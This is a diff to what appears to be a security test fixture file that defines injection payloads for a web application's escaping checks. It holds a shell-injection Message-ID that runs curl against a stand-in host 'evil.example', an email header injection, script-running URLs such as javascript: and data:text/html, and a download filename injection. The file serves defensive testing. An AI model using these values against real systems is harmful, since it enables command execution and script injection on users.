@@ -35,6 +35,17 @@ NAME = " ".join(PAYLOADS[key] for key in ("double-quoted", "single-quoted"))
 HEADER = "x\r\nX-Injected: 1\nFrom evil@example.com Mon Jan  1 00:00:00 2024"
 # Shell text built from a Message-ID (copy commands): pasted unquoted, it runs.
 SHELL_MSGID = "<x;eval$IFS$(curl$IFS-s$IFS'evil.example');y@z>"
+# Stored URLs (pull requests, checks, project links): each runs script when
+# a page links it and someone follows the link.
+SCRIPT_URLS = (
+    "javascript:alert(5)",
+    "JavaScript://example.org/%0aalert(5)",
+    "data:text/html,<script>alert(5)</script>",
+    "vbscript:msgbox(5)",
+)
+# A download's file name (Content-Disposition): quotes and semicolons would
+# end the name and add parameters of their own.
+FILENAME = "x\"; filename=evil.sh; y='"
 
 # Attributes that would let text act in the page.
 _ACTIVE_ATTRIBUTES = re.compile(r"^(on.*|autofocus|formaction|srcdoc)$")
